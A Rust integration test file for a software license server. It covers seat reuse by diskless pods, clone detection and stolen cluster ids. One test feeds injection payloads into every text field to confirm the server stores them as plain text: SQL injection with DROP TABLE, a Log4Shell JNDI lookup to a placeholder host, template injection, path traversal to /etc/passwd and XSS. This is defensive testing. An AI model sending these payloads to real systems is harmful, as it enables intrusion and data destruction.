//! What happens to installations: pods without a disk, copies of a state directory, a stolen cluster id.

use licentia_tests::{Home, Server, catalog, claims, heartbeat};
use serde_json::{Value, json};

async fn take(server: &Server, key: &Value, machine: &str, nonce: &str) -> (u16, Value) {
    let body = json!({ "license_key": key, "cluster_id": "p-cluster-one", "nonce": nonce,
                       "fingerprint": machine, "hostname": machine });
    server.post("/v1/license/activate", &body).await
}

/// The pod knows its cluster id from its configuration and has lost everything else.
#[tokio::test]
async fn d5_a_pod_without_a_disk_that_is_killed_a_hundred_times_is_never_locked_out() {
    let home = Home::with_catalog(&catalog(1));
    let key = home.issue("p", "a")["key"].clone();
    let server = home.serve();
    for round in 0..100 {
        let (status, held) = take(&server, &key, "pod", &format!("nonce-{round:05}")).await;
        assert!(matches!(status, 200 | 201), "round {round}: {held}");
        let generation = claims(&held["lease"])["generation"].as_u64().unwrap_or_default();
        let beat = heartbeat(&held, generation, &format!("beat-{round:05}"));
        let (status, answer) = server.post("/v1/license/heartbeat", &beat).await;
        assert_eq!(status, 200, "round {round}: {answer}");
    }
    let list = home.run(&["activation", "list", "--json"]).done();
    assert_eq!(list.stdout.lines().count(), 1, "one seat all along");
}

#[tokio::test]
async fn d6_two_copies_of_one_state_are_noticed_within_two_heartbeats() {
    let home = Home::with_catalog(&catalog(1));
    let key = home.issue("p", "a")["key"].clone();
    let server = home.serve();
    let (_, state) = take(&server, &key, "one", "nonce-0001").await;
    // Both copies begin with the same state and ask in turns.
    let first = server.post("/v1/license/heartbeat", &heartbeat(&state, 1, "original-1")).await;
    let second = server.post("/v1/license/heartbeat", &heartbeat(&state, 1, "the-copy-1")).await;
    assert_eq!(first.0, 200);
    assert_eq!((second.0, &second.1["code"]), (401, &json!("stale_generation")));
    assert_eq!(server.terminate(), Some(0));
    // In the trail, whose rows are text.
    let database = std::fs::read(home.data().join("licentia.db")).unwrap_or_default();
    let event = b"activation.clone_detected";
    assert!(database.windows(event.len()).any(|window| window == event));
}

#[tokio::test]
async fn d5_a_second_machine_with_a_stolen_cluster_id_is_refused_after_three_take_overs() {
    let home = Home::with_catalog(&catalog(1));
    let key = home.issue("p", "a")["key"].clone();
    let server = home.serve();
    assert_eq!(take(&server, &key, "holder", "nonce-0000").await.0, 201);
    let machines = ["thief", "holder", "thief"];
    for (at, machine) in machines.into_iter().enumerate() {
        let (status, body) = take(&server, &key, machine, &format!("nonce-1{at:04}")).await;
        assert_eq!(status, 200, "take-over {at}: {body}");
    }
    let (status, body) = take(&server, &key, "holder", "nonce-0009").await;
    assert_eq!((status, &body["code"]), (409, &json!("cluster_in_use")));
    let refusal = claims(&body["refusal"]);
    assert_eq!(
        (&refusal["code"], &refusal["nonce"]),
        (&json!("cluster_in_use"), &json!("nonce-0009"))
    );
    assert_eq!(take(&server, &key, "thief", "nonce-0010").await.0, 200, "who holds it, holds it");
}

/// Text that would do something where text became code, in every field that takes text.
#[tokio::test]
async fn text_in_any_field_is_only_text() {
    let home = Home::with_catalog(&catalog(50));
    let key = home.issue("p", "a")["key"].clone();
    let server = home.serve();
    let attacks = [
        "'; DROP TABLE seats; --",
        "' OR '1'='1",
        "\"; UPDATE licenses SET expires_at = 4070908800; --",
        "${jndi:ldap://192.0.2.1/a}",
        "{{7*7}}",
        "../../../../etc/passwd",
        "<script>alert(1)</script>",
        "%00%0a%s%n",
    ];
    for (at, attack) in attacks.into_iter().enumerate() {
        let body = json!({
            "license_key": key, "cluster_id": attack, "nonce": format!("nonce-{at:05}"),
            "hostname": attack, "fingerprint": attack, "email": attack,
            "organization_name": attack, "addresses": [attack], "artifacts_digest": attack,
        });
        let (status, held) = server.post("/v1/license/activate", &body).await;
        assert!(matches!(status, 201 | 422), "{attack}: {held}");
        for field in ["license_key", "product", "nonce"] {
            let mut body = json!({ "license_key": key, "cluster_id": "c", "nonce": "nonce-0001" });
            body[field] = json!(attack);
            let (status, answer) = server.post("/v1/license/activate", &body).await;
            assert!((200..500).contains(&status), "{field} {attack}: {answer}");
        }
        if status == 201 {
            let beat = json!({
                "activation_id": held["activation_id"], "access_token": held["access_token"],
                "token_version": 1, "generation": 1, "nonce": "nonce-0002",
                "usage": { attack.replace(' ', "_"): 1 }, "usage_id": attack,
            });
            let (status, answer) = server.post("/v1/license/heartbeat", &beat).await;
            assert!(matches!(status, 200 | 422), "{attack}: {answer}");
        }
    }
    drop(server);
    let licenses = home.run(&["license", "list", "--json"]).done().stdout;
    assert!(!licenses.contains("2099"), "{licenses}");
    let _ = home.run(&["audit", "verify"]).done();
}
